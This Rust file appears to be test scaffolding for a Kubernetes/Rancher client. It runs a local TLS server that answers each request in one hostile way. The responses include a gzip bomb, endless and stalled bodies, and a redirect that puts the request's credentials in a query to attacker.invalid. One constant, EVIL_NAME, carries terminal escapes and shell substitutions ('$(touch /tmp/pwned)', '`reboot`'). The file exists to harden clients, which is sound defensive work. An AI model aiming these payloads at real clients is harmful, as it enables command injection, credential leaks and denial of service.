//! A server that a client must survive. It answers each request in one hostile way, whatever is asked.

use anyhow::Result;
use bytes::Bytes;
use flate2::{Compress, Compression, FlushCompress};
use futures::StreamExt as _;
use futures::stream::{self, BoxStream};
use http::header::{CONTENT_ENCODING, LOCATION, RETRY_AFTER, WARNING};
use http::{HeaderMap, Response};
use http_body_util::{BodyExt as _, StreamBody};
use hyper::body::{Frame, Incoming};
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tokio::task::JoinSet;

use crate::fault_proxy::tls::acceptor;
use crate::pki::Authority;

/// A name that controls the terminal, forges a message, and runs a command in a shell.
pub const EVIL_NAME: &str = "c-\u{1b}[2J\u{9b}1m$(touch /tmp/pwned)`reboot`\nerror: forged\r\u{7}";

/// What is hostile about a response.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Hostility {
    /// A list without end, compressed to a thousandth.
    GzipBomb,
    /// A list without end, in chunks.
    Endless,
    /// A body that stops in the middle.
    Stalled,
    /// Neither JSON nor text.
    Garbage,
    /// A redirect to another server, with the credential in its query.
    Redirect,
    /// 503, to be retried after 585 billion years.
    HugeRetryAfter,
    /// An error and a warning that repeat the credentials of the request.
    Echo,
    /// An object with all fields, and everywhere [`EVIL_NAME`].
    EvilNames,
}

impl Hostility {
    /// Each of them.
    pub const ALL: [Self; 8] = [
        Self::GzipBomb,
        Self::Endless,
        Self::Stalled,
        Self::Garbage,
        Self::Redirect,
        Self::HugeRetryAfter,
        Self::Echo,
        Self::EvilNames,
    ];

    fn response(self, request: &HeaderMap) -> Result<Response<Body>> {
        let echo = credentials(request);
        let response = Response::builder();
        Ok(match self {
            Self::GzipBomb => response.header(CONTENT_ENCODING, "gzip").body(compressed()?)?,
            Self::Endless => response.body(endless(LIST_BEGINS.into(), Bytes::from_static(&EMPTY_OBJECTS)))?,
            Self::Stalled => response.body(stream::iter([LIST_BEGINS.into()]).chain(stream::pending()).boxed())?,
            Self::Garbage => response.body(once(&b"\x1b[2J\xff\xfe{\"kind\": not JSON"[..]))?,
            Self::Redirect => {
                let to = format!("https://attacker.invalid/?token={echo}");
                response.status(307).header(LOCATION, to).body(once(""))?
            }
            Self::HugeRetryAfter => {
                let response = response.status(503).header(RETRY_AFTER, u64::MAX);
                response.body(once(status(503, "ServiceUnavailable", "busy").to_string()))?
            }
            Self::Echo => {
                let response = response.status(403).header(WARNING, format!("299 - \"{echo}\""));
                response.body(once(status(403, "Forbidden", &format!("not with {echo}")).to_string()))?
            }
            Self::EvilNames => response.body(once(evil_list().to_string()))?,
        })
    }
}

type Body = BoxStream<'static, Bytes>;

const LIST_BEGINS: &str = r#"{"kind":"List","apiVersion":"v1","metadata":{},"items":["#;
static EMPTY_OBJECTS: [u8; 3 << 14] = {
    let mut objects = [0; 3 << 14];
    let mut at = 0;
    while at < objects.len() {
        objects[at] = b"{},"[at % 3];
        at += 1;
    }
    objects
};

fn once(body: impl Into<Bytes>) -> Body {
    stream::iter([body.into()]).boxed()
}

fn endless(begin: Bytes, again: Bytes) -> Body {
    stream::iter([begin]).chain(stream::repeat(again)).boxed()
}

/// gzip without end: after a full flush, a block refers to nothing before it and can be repeated.
fn compressed() -> Result<Body> {
    const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    let mut deflate = Compress::new(Compression::best(), false);
    let mut block = |text: &[u8]| -> Result<Vec<u8>> {
        let mut block = Vec::with_capacity(text.len() + 64);
        deflate.compress_vec(text, &mut block, FlushCompress::Full)?;
        Ok(block)
    };
    let begin = [&HEADER[..], &block(LIST_BEGINS.as_bytes())?].concat();
    Ok(endless(begin.into(), block(&EMPTY_OBJECTS)?.into()))
}

/// All credentials in the headers of a request.
fn credentials(request: &HeaderMap) -> String {
    let values = ["authorization", "x-api-tunnel-token", "cookie"].map(|name| request.get(name));
    let values = values.into_iter().flatten().filter_map(|value| value.to_str().ok());
    values.collect::<Vec<_>>().join(" ")
}

fn status(code: u16, reason: &str, message: &str) -> Value {
    json!({ "kind": "Status", "apiVersion": "v1", "status": "Failure", "code": code, "reason": reason, "message": message })
}

/// One answer for everything: an object, a list of it, a setting, a version, a collection of Rancher's.
fn evil_list() -> Value {
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(EVIL_NAME);
    let metadata = json!({
        "name": EVIL_NAME, "namespace": EVIL_NAME, "uid": EVIL_NAME, "resourceVersion": "1",
        "labels": { "app.kubernetes.io/managed-by": EVIL_NAME }, "annotations": { "description": EVIL_NAME },
    });
    let item = json!({
        "metadata": metadata, "type": "bootstrap.kubernetes.io/token", "name": EVIL_NAME, "id": EVIL_NAME,
        "spec": { "displayName": EVIL_NAME, "clusterName": EVIL_NAME },
        "status": { "token": EVIL_NAME },
        "data": { "token-id": encoded, "token-secret": encoded, "description": encoded, "name": encoded, "server": encoded, "config": encoded },
    });
    let mut list = item.clone();
    list["kind"] = json!("List");
    list["apiVersion"] = json!("v1");
    list["value"] = json!(EVIL_NAME);
    list["gitVersion"] = json!(EVIL_NAME);
    list["items"] = json!([item]);
    list
}

/// The server, over TLS. It ends when it is dropped.
pub struct HostileServer {
    url: String,
    ca_pem: String,
    _listener: JoinSet<()>,
}

impl HostileServer {
    /// Starts it on a port of 127.0.0.1.
    pub async fn start(hostility: Hostility) -> Result<Self> {
        let authority = Authority::new("hostile CA")?;
        let acceptor = acceptor(&authority)?;
        let socket = TcpListener::bind("127.0.0.1:0").await?;
        let url = format!("https://{}", socket.local_addr()?);
        let mut listener = JoinSet::new();
        listener.spawn(async move {
            let mut connections = JoinSet::new();
            while let Ok((stream, _)) = socket.accept().await {
                let acceptor = acceptor.clone();
                connections.spawn(async move {
                    // A client that goes away in the middle of a response does what it should.
                    if let Ok(stream) = acceptor.accept(stream).await {
                        let service = service_fn(move |request| serve(hostility, request));
                        let http = hyper::server::conn::http1::Builder::new();
                        let _ = http.serve_connection(TokioIo::new(stream), service).await;
                    }
                });
            }
        });
        Ok(Self {
            url,
            ca_pem: authority.ca_pem().to_owned(),
            _listener: listener,
        })
    }

    /// Its address.
    pub fn url(&self) -> &str {
        &self.url
    }

    /// The CA that signed its certificate.
    pub fn ca_pem(&self) -> &str {
        &self.ca_pem
    }
}

async fn serve(
    hostility: Hostility,
    request: http::Request<Incoming>,
) -> Result<Response<StreamBody<BoxStream<'static, Result<Frame<Bytes>>>>>> {
    let (parts, body) = request.into_parts();
    body.collect().await?;
    let response = hostility.response(&parts.headers)?;
    Ok(response.map(|body| StreamBody::new(body.map(|data| Ok(Frame::data(data))).boxed())))
}
